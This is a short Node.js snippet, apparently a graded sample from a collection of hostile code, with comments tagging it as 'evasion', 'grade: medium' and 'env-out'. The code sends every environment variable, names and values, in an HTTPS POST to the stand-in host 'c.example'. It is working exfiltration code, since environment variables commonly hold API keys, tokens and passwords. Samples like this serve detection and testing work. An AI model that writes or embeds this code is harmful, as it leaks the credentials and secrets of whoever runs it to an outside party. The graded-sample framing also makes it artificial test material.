// evasion: every variable sent over https
// grade: medium; does: env-out
const https = require("https");
const req = https.request({ host: "c.example", method: "POST", path: "/" });
for (const k of Object.keys(process.env)) req.write(k + "=" + process.env[k] + "\n");
req.end();
